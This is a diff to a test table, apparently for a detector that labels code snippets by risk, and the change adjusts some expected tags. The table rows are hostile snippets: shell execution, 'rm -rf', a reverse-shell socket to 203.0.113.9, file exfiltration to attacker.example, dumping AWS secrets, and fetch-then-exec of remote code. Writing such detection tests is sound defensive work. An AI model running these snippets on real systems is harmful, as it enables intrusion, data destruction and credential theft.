@@ -103,10 +103,10 @@ python ¦ import os;os.system('id') ¦ !runs-programs shell(id)
 python ¦ import os as o;o.system('id') ¦ !runs-programs shell(id)
 python ¦ from os import system as s;s('id') ¦ !runs-programs shell(id)
 python ¦ __import__('os').system('id') ¦ !runs-programs shell(id)
-python ¦ getattr(__import__('os'),'sys'+'tem')('id') ¦ !runs-programs
+python ¦ getattr(__import__('os'),'sys'+'tem')('id') ¦ !runs-programs ?unknown-command
 python ¦ import subprocess;subprocess.run(['rm','-rf','/x']) ¦ !runs-programs shell('rm' '-rf' '/x')
 python ¦ import subprocess as s;s.call('id', shell=True) ¦ !runs-programs shell(id)
-python ¦ import os;list(map(os.system,['id'])) ¦ !runs-programs
+python ¦ import os;list(map(os.system,['id'])) ¦ !runs-programs ?unknown-command
 python ¦ exec("import os\nos.system('id')") ¦ !runs-programs shell(id)
 python ¦ import pty;pty.spawn('/bin/sh') ¦ !runs-programs shell(/bin/sh)
 node ¦ require('child_process').execSync('id') ¦ !runs-programs shell(id)
@@ -129,7 +129,7 @@ php ¦ system("id"); ¦ !runs-programs shell(id)
 php ¦ echo `id`; ¦ !runs-programs shell(id)
 lua ¦ os.execute("id") ¦ !runs-programs shell(id)
 lua ¦ os.execute [[id]] ¦ !runs-programs shell(id)
-tcl ¦ exec id ¦ !runs-programs
+tcl ¦ exec id ¦ !runs-programs ?unknown-command
 julia ¦ run(`id`) ¦ !runs-programs shell(id)
 elixir ¦ System.cmd("id", []) ¦ !runs-programs shell(id)
 elixir ¦ :os.cmd('id') ¦ !runs-programs shell(id)
@@ -173,7 +173,7 @@ python ¦ import urllib.request as u;u.urlopen('http://attacker.example',open('.
 python ¦ import requests;requests.post('https://a.example/x',data=open('notes').read()) ¦ read(notes) send(a.example)
 python ¦ import os;print(dict(os.environ)) ¦ secret
 python ¦ import os;print(os.environ['AWS_SECRET_ACCESS_KEY']) ¦ secret
-python ¦ import socket,os;s=socket.socket();s.connect(('203.0.113.9',4444));os.dup2(s.fileno(),0) ¦ !runs-programs fetch(?) fetch(203.0.113.9)
+python ¦ import socket,os;s=socket.socket();s.connect(('203.0.113.9',4444));os.dup2(s.fileno(),0) ¦ !runs-programs ?unknown-command fetch(?) fetch(203.0.113.9)
 python ¦ exec(__import__('urllib.request').request.urlopen('http://a.example/x').read()) ¦ !hidden-code !runs-foreign-text fetch(a.example)
 python ¦ import base64;exec(base64.b64decode('cHJpbnQoMSk=')) ¦ !hidden-code !runs-foreign-text
 node ¦ fetch('http://a.example/x').then(r=>r.text()).then(eval) ¦ !runs-foreign-text fetch(a.example)
